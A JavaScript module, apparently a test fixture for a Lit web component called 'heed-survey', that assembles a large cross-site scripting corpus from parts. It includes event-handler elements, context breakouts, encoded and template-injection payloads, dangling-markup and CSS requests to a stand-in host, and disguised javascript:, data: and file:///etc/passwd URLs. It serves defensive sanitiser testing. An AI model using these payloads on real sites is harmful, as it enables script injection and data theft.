// Words that would be programs if any page took them for markup: made here from parts, so that the list needs no licence and no
// download. The parts follow the order of the usual collections (OWASP, PortSwigger): elements that run by themselves, breaking out
// of where words stand, disguises of the call, templates of other libraries, and Lit's own marks.

/** What is called. All of it is counted: a function, the browser's dialogs, a request to somebody else. */
const calls = [
  'heedRan()',
  'alert(1)',
  'heedRan`1`',
  'top["heed"+"Ran"]()',
  "import('//canary.invalid/x.js')",
  "fetch('//canary.invalid/x')",
  'eval(atob("aGVlZFJhbigp"))',
  '(_=>heedRan())()',
  '\\u0068eedRan()',
  '[1].map(heedRan)',
];

/** Elements that run something when they come onto a page. */
const elements = [
  (call) => `<script>${call}</script>`,
  (call) => `<ScRiPt >${call}</sCrIpT\n>`,
  (call) => `<img src=x onerror=${quoted(call)}>`,
  (call) => `<img/src/onerror=${quoted(call)}>`,
  (call) => `<IMG """><img src=x onerror=${quoted(call)}>`,
  (call) => `<svg onload=${quoted(call)}>`,
  (call) => `<svg><script>${call}</script></svg>`,
  (call) => `<svg><animate onbegin=${quoted(call)} attributeName=x dur=1s>`,
  (call) =>
    `<svg><use href="data:image/svg+xml,<svg id=x xmlns=http://www.w3.org/2000/svg><image href=1 onerror=${quoted(call)} /></svg>#x">`,
  (call) => `<body onload=${quoted(call)}>`,
  (call) => `<input autofocus onfocus=${quoted(call)}>`,
  (call) => `<details open ontoggle=${quoted(call)}>`,
  (call) => `<video><source onerror=${quoted(call)}></video>`,
  (call) => `<audio src=x onerror=${quoted(call)}>`,
  (call) => `<iframe srcdoc="<script>parent.${attribute(call)}</script>">`,
  (call) => `<iframe src="javascript:parent.${attribute(call)}">`,
  (call) => `<object data="javascript:${attribute(call)}">`,
  (call) => `<embed src="javascript:${attribute(call)}">`,
  (call) => `<a href="javascript:${attribute(call)}" id=x>here</a>`,
  (call) => `<form><button formaction="javascript:${attribute(call)}">here</button></form>`,
  (call) => `<math><mtext><table><mglyph><style><!--</style><img src=x onerror=${quoted(call)}>`,
  (call) => `<template shadowrootmode=open><img src=x onerror=${quoted(call)}></template>`,
  (call) => `<marquee onstart=${quoted(call)}>`,
  (call) => `<style onload=${quoted(call)}></style>`,
  (call) => `<link rel=stylesheet href=x onerror=${quoted(call)}>`,
  (call) => `<div style="animation:x 1s" onanimationstart=${quoted(call)}>`,
  (call) => `<div popover id=p onbeforetoggle=${quoted(call)}></div>`,
  (call) => `<meta http-equiv=refresh content="0;url=javascript:${attribute(call)}">`,
];

/** How words get out of where they stand. */
const ways = [
  (inside) => inside,
  (inside) => `">${inside}`,
  (inside) => `'>${inside}`,
  (inside) => `--></title></textarea></style></script>${inside}`,
  (inside) => `]]>${inside}<!--`,
  (inside) => `\u0000${inside}`,
  (inside) => inside.replaceAll('<', '\uFF1C<'),
  (inside) => [...inside].map((letter) => `&#${letter.codePointAt(0)};`).join(''),
];

/** What is dangerous without an element. */
const others = [
  '{{constructor.constructor("heedRan()")()}}',
  '${heedRan()}',
  '#{heedRan()}',
  '<%= heedRan() %>',
  '[[${heedRan()}]]',
  '{{[].pop.constructor("heedRan()")()}}',
  '" onfocus="heedRan()" autofocus tabindex=1 x="',
  "' onmouseover='heedRan()' x='",
  '` onload=`heedRan()`',
  '";heedRan();//',
  "');heedRan();//",
  '</script><script>heedRan()</script>',
  'javascript:heedRan()',
  'jAvAsCrIpT:heedRan()//',
  'data:text/html,<script>heedRan()</script>',
  'javascript:/*--></title></style></textarea></script></xmp><svg/onload="+/`/+/onmouseover=1/+/[*/[]/+heedRan()//">',
  '<!--?lit$heed$--><img src=x onerror=heedRan()>',
  '?lit$123456789$',
  '{{lit-123456789}}',
  '<!--?--><img src=x onerror=heedRan()><?',
  '<img src="//canary.invalid/dangling?',
  "<base href='//canary.invalid/'>",
  '<link rel=prefetch href=//canary.invalid/x>',
  '@import "//canary.invalid/x.css";',
  'x{background:url(//canary.invalid/x.png)}',
  '</style><link rel=stylesheet href=//canary.invalid/x.css>',
  '\u202E>)(naReeh=rorreno x=crs gmi<',
  '+ADw-script+AD4-heedRan()+ADw-/script+AD4-',
  '%3Cimg%20src=x%20onerror=heedRan()%3E',
  '\\x3cimg src=x onerror=heedRan()\\x3e',
  '\\u003cimg src=x onerror=heedRan()\\u003e',
  '&lt;img src=x onerror=heedRan()&gt;',
  '&amp;lt;script&amp;gt;heedRan()&amp;lt;/script&amp;gt;',
  '<x is=heed-survey onclick=heedRan()>',
  '<heed-survey src="data:application/json,{}" organisation="//canary.invalid/o.json"></heed-survey>',
  '<slot name=x onslotchange=heedRan()></slot>',
];

const quoted = (call) => `"${attribute(call)}"`;
const attribute = (call) => call.replaceAll('"', '&quot;');

/** Every payload, each once. No braces with a bar in between, because that is how a survey repeats an earlier answer. */
export const payloads = [
  ...new Set([
    ...elements.flatMap((element, at) => ways.map((way, w) => way(element(calls[(at + w) % calls.length])))),
    ...elements.flatMap((element) => calls.map((call) => element(call))),
    ...others.flatMap((other) => [other, `">${other}`]),
  ]),
].filter((each) => !/\{[a-z][a-z0-9-]*\|/.test(each));

/** Addresses that run something, or ask somebody else. */
const addresses = [
  'javascript:heedRan()',
  'javascript://%0aheedRan()',
  'javascript:void(heedRan())//https://',
  'data:text/html,<script>heedRan()</script>',
  'data:text/html;base64,PHNjcmlwdD5oZWVkUmFuKCk8L3NjcmlwdD4=',
  'vbscript:msgbox(1)',
  'blob:https://canary.invalid/x',
  'file:///etc/passwd',
  'filesystem:https://canary.invalid/x',
  'view-source:https://canary.invalid/',
  'intent://canary.invalid/#Intent;scheme=https;end',
  '//canary.invalid/x',
  'https://canary.invalid/x',
  'http://canary.invalid/x',
  'ftp://canary.invalid/x',
  'ws://canary.invalid/x',
];

/** How an address is made to look like another one. */
const disguises = [
  (each) => each,
  (each) => each.toUpperCase(),
  (each) => each.replace(/[a-z]/g, (letter, at) => (at % 2 ? letter.toUpperCase() : letter)),
  ...[
    '\u0000',
    '\u0001',
    '\u001F',
    ' ',
    '\t',
    '\n',
    '\u00A0',
    '\u200B',
    '\uFEFF',
    '\u2028',
    '\u202E',
    '\u0085',
    './',
    '/',
    '\\',
    '/\\',
    '\\\\',
    '#',
    '?',
    'x:',
    'url:',
    'https:',
  ].map((before) => (each) => before + each),
  (each) => each.replace(':', '\t:'),
  (each) => each.replace(':', '\n:'),
  (each) => each.replace(':', '&colon;'),
  (each) => each.replace(':', '%3A'),
  (each) => each.replace(':', '\uFF1A'),
  (each) => each.replace('a', '\t\ra'),
  (each) => each.replace('a', '&#97;'),
  (each) => each.replace('a', '\u0430'),
  (each) => each.replaceAll('/', '\\'),
  (each) => each.replace('//', '/\t/'),
  (each) => each.replace('//', '///'),
  (each) => each.replace('//', '/\u0001/'),
  (each) => each.replace('://', ':'),
  (each) => each.replace('https:', ''),
  (each) => `https://own.example@${each.replace(/^\w+:\/*/, '')}`,
  (each) => `tel:${each}`,
  (each) => `mailto:x?body=${each}`,
  (each) => `https://own.example/?${each}`,
];

/** Every address in every disguise, each once. */
export const disguised = [...new Set(addresses.flatMap((address) => disguises.map((disguise) => disguise(address))))];
